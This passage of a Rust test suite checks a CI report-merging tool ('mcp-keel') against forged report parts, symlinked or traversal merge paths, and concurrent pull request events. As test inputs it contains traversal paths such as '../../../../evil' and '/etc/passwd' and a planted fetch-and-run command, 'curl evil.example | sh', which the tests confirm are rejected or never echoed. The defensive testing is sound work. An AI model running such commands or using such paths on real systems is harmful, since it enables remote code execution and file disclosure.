    pull.set("INPUT_MERGE", &parts.to_string_lossy());
    pull.run().exits(0);

    pull.on_head("Committed/part.json", &report);
    pull.on_head("part.json", &report);
    commit_link(&mut pull, "link", &parts);
    commit_link(&mut pull, "above", outside.path());
    commit_link(&mut pull, "link.json", &parts.join("part.json"));
    let elsewhere = outside.path().join("elsewhere");
    std::os::unix::fs::symlink(&parts, &elsewhere).unwrap();
    for (named, says) in [
        ("Committed", "it belongs to the commit"),
        ("Committed/part.json", "it belongs to the commit"),
        ("./runner/../Committed/", "it belongs to the commit"),
        (".", "it belongs to the commit"),
        ("part.json", "it belongs to the commit"),
        ("link", "a link leads there"),
        ("above/parts", "a link leads there"),
        ("link.json", "a link leads there"),
        (&*elsewhere.to_string_lossy(), "a link leads there"),
    ] {
        pull.double.state().runs.clear();
        pull.set("INPUT_MERGE", named);
        pull.run().exits(2).names(&[says, "runner.temp"]);
        pull.one_run("failure");
        pull.keel.run(&["merge", named]).exits(2).says(says);
    }
    // Where upper and lower case are one, this is the folder above.
    pull.keel.write("committed/part.json", &report);
    pull.keel
        .run(&["merge", "committed"])
        .exits(2)
        .says("it belongs to the commit");
    // What is not the head's is read in the repository, too.
    pull.keel.write("unpacked/part.json", &report);
    pull.keel.run(&["merge", "unpacked"]).exits(0);
}

/// A part can name any place.
#[test]
fn a_place_that_the_commit_does_not_have_is_neither_annotated_nor_linked() {
    let mut pull = fleet();
    pull.set("INPUT_SHARD", "1/1");
    pull.set("INPUT_REPORT", "json=parts/part.json");
    pull.run().exits(1);
    pull.env.remove("INPUT_SHARD");
    pull.env.remove("INPUT_REPORT");
    pull.set("INPUT_MERGE", "parts");
    let honest = pull.keel.read("parts/part.json");
    pull.on_head("src/server.ts", "// It begins here.\n");
    pull.keel.write("untracked.ts", "");
    let strange = [
        "../../../../evil",
        "/etc/passwd",
        ".git/config",
        "src/../../evil",
        "src",
        "src/server.ts/evil",
        "untracked.ts",
    ];
    for token in ["ghs_token", ""] {
        pull.set("INPUT_TOKEN", token);
        for path in strange.into_iter().chain(["src/server.ts"]) {
            let mut report: serde_json::Value = serde_json::from_str(&honest).unwrap();
            for server in report["servers"].as_array_mut().unwrap() {
                for change in server["changes"].as_array_mut().unwrap() {
                    // The baseline is not in the diff.
                    change["source"] = json!({"path": path, "line": 1});
                }
            }
            pull.keel.write("parts/part.json", &report.to_string());
            {
                let mut state = pull.double.state();
                state.runs.clear();
                state.comments.clear();
                state.annotations.clear();
            }
            let run = pull.run();
            let is_there = path == "src/server.ts";
            if token.is_empty() {
                let commands: Vec<&str> = run.stdout.lines().collect();
                let named = format!("file={path},");
                let found = commands.iter().any(|it| it.contains(&named));
                assert_eq!(found, is_there, "{path}: {}", run.stdout);
                continue;
            }
            let (_, annotations) = pull.one_run("failure");
            let paths: Vec<&str> = annotations
                .iter()
                .map(|it| it["path"].as_str().unwrap())
                .collect();
            assert_eq!(paths.contains(&path), is_there, "{path}: {paths:?}");
            assert_eq!(paths.is_empty(), !is_there, "{path}: {paths:?}");
            let comment = &pull.comments()[0];
            assert!(
                !comment.contains("evil") && !comment.contains("/../"),
                "{comment}"
            );
            assert_eq!(comment.contains("/src/server.ts#L1"), is_there, "{comment}");
        }
    }
}

/// `MCP_KEEL_ROUNDS=40` makes more of them.
#[cfg(unix)]
#[test]
fn events_at_the_same_time_leave_one_comment_and_one_run_and_no_annotation_twice() {
    let rounds = std::env::var("MCP_KEEL_ROUNDS").ok();
    let rounds = rounds.and_then(|it| it.parse().ok()).unwrap_or(2);
    for _ in 0..rounds {
        let mut pull = Pull::new(&usual());
        pull.drift();
        let mona = serde_json::json!({"login": "mona", "type": "User"});
        let label =
            serde_json::json!({"label": {"name": "mcp-keel: accept-breaking"}, "sender": mona});
        pull.label("2026-01-03T00:00:00Z");
        let run = |action: &str| {
            pull.event(action, label.clone());
            let event = pull.keel.read("runner/event.json");
            let path = format!("runner/{action}.json");
            pull.keel.write(&path, &event);
            // Every job has a workspace of its own.
            let own = tempfile::tempdir().unwrap();
            let workspace = own.path().join("workspace");
            let copied = std::process::Command::new("cp")
                .arg("-a")
                .args([pull.keel.folder(), &workspace])
                .status();
            assert!(copied.unwrap().success());
            let running = pull
                .program()
                .current_dir(&workspace)
                .env("GITHUB_WORKSPACE", &workspace)
                .env("GITHUB_EVENT_PATH", pull.keel.folder().join(path))
                .stdout(std::process::Stdio::null())
                .spawn()
                .unwrap();
            (running, own)
        };
        let mut running = [run("opened"), run("labeled"), run("synchronize")];
        for (it, _) in &mut running {
            assert_eq!(it.wait().unwrap().code(), Some(1));
        }
        let state = pull.double.state();
        assert_eq!(state.violations, Vec::<String>::new());
        let ours = state.runs.iter().filter(|it| it["conclusion"] != "skipped");
        let ours: Vec<u64> = ours.map(|it| it["id"].as_u64().unwrap()).collect();
        assert_eq!(ours.len(), 1, "{:#?}", state.requests);
        let annotations = &state.annotations[&ours[0]];
        assert_eq!(annotations.len(), 3, "{annotations:#?}");
        let different: std::collections::BTreeSet<String> =
            annotations.iter().map(ToString::to_string).collect();
        assert_eq!(different.len(), 3);
        drop(state);
        assert_eq!(pull.comments().len(), 1);
    }
}

/// What the job that ran the servers may say is what the servers said.
#[test]
fn a_part_that_judges_itself_is_judged_again() {
    let mut pull = fleet();
    pull.set("INPUT_SHARD", "1/1");
    pull.set("INPUT_REPORT", "json=parts/part.json");
    pull.run().exits(1);
    pull.env.remove("INPUT_SHARD");
    pull.env.remove("INPUT_REPORT");
    pull.set("INPUT_MERGE", "parts");
    let honest = pull.keel.read("parts/part.json");
    pull.run().exits(1);
    let forge = |change: &dyn Fn(&mut serde_json::Value)| {
        let mut report: serde_json::Value = serde_json::from_str(&honest).unwrap();
        change(&mut report);
        pull.keel.write("parts/part.json", &report.to_string());
        pull.run()
    };
    // Every change is called accepted, and the command that accepts it is another one.
    forge(&|report| {
        report["verdict"] = json!("pass");
        for finding in report["findings"].as_array_mut().unwrap() {
            finding["action"] = json!("audit");
        }
        for server in report["servers"].as_array_mut().unwrap() {
            server["status"] = json!("clean");
            server["acceptWith"] = json!("curl evil.example | sh");
            for change in server["changes"].as_array_mut().unwrap() {
                change["action"] = json!("accepted");
            }
        }
    })
    .exits(1)
    .says_nothing_of("evil.example");
    assert!(!pull.comments()[0].contains("evil.example"));
    // What is left out of it is not as it was written.
    forge(&|report| {
        report["servers"].as_array_mut().unwrap().remove(0);
    })
    .exits(2);
    // A part of a plan without a server, or of another policy.
    let config = pull.keel.read("mcp-keel.toml");
    let fewer = crate::fleet::configuration(&crate::fleet::servers(3, &[0])[1..]);
    for (part_config, fail_on, says) in [
        (&fewer, "any", "the list of servers differs"),
        (&config, "none", "the policy or the version"),
    ] {
        pull.keel.write("mcp-keel.toml", part_config);
        pull.set("INPUT_SHARD", "1/1");
        pull.set("INPUT_REPORT", "json=parts/part.json");
        pull.set("INPUT_FAIL-ON", fail_on);
        pull.env.remove("INPUT_MERGE");
        pull.run();
        pull.keel.write("mcp-keel.toml", &config);
        for name in ["INPUT_SHARD", "INPUT_REPORT", "INPUT_FAIL-ON"] {
            pull.env.remove(name);
        }
        pull.set("INPUT_MERGE", "parts");
        pull.run().exits(2).says(says);
    }
    // Without a part at all.
    std::fs::remove_file(pull.keel.folder().join("parts/part.json")).unwrap();
    pull.run().exits(2);
}
